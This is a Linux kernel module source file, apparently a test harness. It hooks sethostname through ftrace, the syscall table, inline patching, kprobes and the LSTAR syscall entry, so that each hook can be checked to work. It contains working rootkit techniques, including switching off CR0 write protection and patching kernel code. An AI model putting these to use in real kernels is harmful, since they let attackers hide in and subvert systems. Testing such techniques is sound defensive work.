// SPDX-License-Identifier: GPL-2.0-only
/*
 * The system call sethostname, hooked in the ways that there are: a guest's hostname(1)
 * fails while one that the kernel follows is in place, so that each is known to work.
 */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/unistd.h>
#include <linux/vmalloc.h>

#include "rootkit.h"

#define PATCH 5

static unsigned long *call_table;
static void *target;			/* __x64_sys_sethostname */
static unsigned long (*entry_of)(unsigned long function);	/* its place for ftrace */

static ftrace_func_t stub;		/* a tracer's function that does nothing */

/* In the place of sethostname. */
static asmlinkage long refuse(const struct pt_regs *regs)
{
	return -EPERM;
}

/* ---- ftrace ---- */

static void notrace lead_away(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			      struct ftrace_regs *regs)
{
	instruction_pointer_set(ftrace_get_regs(regs), (unsigned long)refuse);
}

static struct ftrace_ops tracer = {
	.func = lead_away,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static int trace(void)
{
	int r = ftrace_set_filter_ip(&tracer, (unsigned long)target, 0, 0);

	return r ? r : register_ftrace_function(&tracer);
}

static void trace_no_more(void)
{
	unregister_ftrace_function(&tracer);
	ftrace_set_filter_ip(&tracer, (unsigned long)target, 1, 0);
}

/* Its trampoline calls what was there when it was made. */
static int deny(void)
{
	tracer.func = stub;
	return 0;
}

static void admit(void)
{
	tracer.func = lead_away;
}

/* ---- the table of system calls, with the CPU's write protection off ---- */

static unsigned long old_call;

static void write_protected(unsigned long *at, unsigned long value)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	/* The kernel's write_cr0() would put the bit back. */
	asm volatile("mov %0, %%cr0" : : "r" (cr0 & ~X86_CR0_WP) : "memory");
	WRITE_ONCE(*at, value);
	asm volatile("mov %0, %%cr0" : : "r" (cr0) : "memory");
	local_irq_restore(flags);
}

static int take_call(void)
{
	old_call = call_table[__NR_sethostname];
	write_protected(&call_table[__NR_sethostname], (unsigned long)refuse);
	return 0;
}

static void give_call_back(void)
{
	write_protected(&call_table[__NR_sethostname], old_call);
}

/* ---- its code, by another mapping of its pages that may be written ---- */

static u8 old_code[PATCH];

static int write_by(struct page *(*page_of)(const void *at), void *at, const void *bytes, size_t size)
{
	struct page *pages[2] = { page_of(at), page_of(at + size - 1) };
	void *alias = vmap(pages, 2, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), bytes, size);
	vunmap(alias);
	return 0;
}

static struct page *image_page(const void *at)
{
	return virt_to_page(at);
}

int rootkit_write(void *at, const void *bytes, size_t size)
{
	return write_by(image_page, at, bytes, size);
}

static int rootkit_write_module(void *at, const void *bytes, size_t size)
{
	return write_by(vmalloc_to_page, at, bytes, size);
}

/* Behind what ftrace has there: it would find another's bytes in its place, and stop. */
static void *behind_entry(void)
{
	unsigned long at = entry_of((unsigned long)target);

	return at ? (void *)at + PATCH : target;
}

static int patch(void)
{
	void *at = behind_entry();
	s32 offset = (long)refuse - (long)(at + PATCH);
	u8 code[PATCH] = { 0xe9 };

	memcpy(code + 1, &offset, sizeof(offset));
	memcpy(old_code, at, PATCH);
	return rootkit_write(at, code, PATCH);
}

static void unpatch(void)
{
	WARN_ON(rootkit_write(behind_entry(), old_code, PATCH));
}

/* ---- kprobes: at its entry, which is ftrace's, and where there is no such place ---- */

static int on_entry(struct kprobe *p, struct pt_regs *regs)
{
	instruction_pointer_set(regs, (unsigned long)refuse);
	return 1;
}

static int on_probe(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe at_entry, within;

static int probe(void)
{
	int r;

	at_entry = (struct kprobe){ .addr = target, .pre_handler = on_entry };
	r = register_kprobe(&at_entry);
	if (r)
		return r;
	/* The next instruction that starts there and may be probed. */
	for (unsigned int offset = 16; offset < 48; offset++) {
		within = (struct kprobe){ .addr = target + offset, .pre_handler = on_probe };
		r = register_kprobe(&within);
		if (!r)
			return 0;
	}
	unregister_kprobe(&at_entry);
	return r;
}

static void probe_no_more(void)
{
	unregister_kprobe(&within);
	unregister_kprobe(&at_entry);
}

/* ---- the entry of system calls: a jump of ours to the kernel's, on the one CPU ---- */

asm(".pushsection .text\n"
    ".balign 16\n"
    "detour: .byte 0xe9, 0, 0, 0, 0\n"
    "int3\n"
    ".popsection\n");
extern char detour[];

#define LSTAR 0xc0000082u

static u64 old_entry;

/* The kernel's own names for these have changed. */
static u64 read_lstar(void)
{
	u32 low, high;

	asm volatile("rdmsr" : "=a" (low), "=d" (high) : "c" (LSTAR));
	return (u64)high << 32 | low;
}

static void write_lstar(u64 to)
{
	asm volatile("wrmsr" : : "a" ((u32)to), "d" ((u32)(to >> 32)), "c" (LSTAR) : "memory");
}

static int take_entry(void)
{
	s32 offset;
	int r;

	old_entry = read_lstar();
	offset = (long)old_entry - (long)(detour + PATCH);
	r = rootkit_write_module(detour + 1, &offset, sizeof(offset));
	if (!r)
		write_lstar((unsigned long)detour);
	return r;
}

static void give_entry_back(void)
{
	write_lstar(old_entry);
}

struct trick hook_tricks[] = {
	{ "ftrace", trace, trace_no_more },
	{ "ftrace-quiet", deny, admit },
	{ "call-table", take_call, give_call_back },
	{ "inline", patch, unpatch },
	{ "kprobe", probe, probe_no_more },
	{ "lstar", take_entry, give_entry_back },
	{ }
};

int hook_init(void)
{
	call_table = rootkit_symbol("sys_call_table");
	target = rootkit_symbol("__x64_sys_sethostname");
	entry_of = rootkit_symbol("ftrace_location");
	stub = rootkit_symbol("ftrace_stub");
	return call_table && target && entry_of && stub ? 0 : -ENOENT;
}
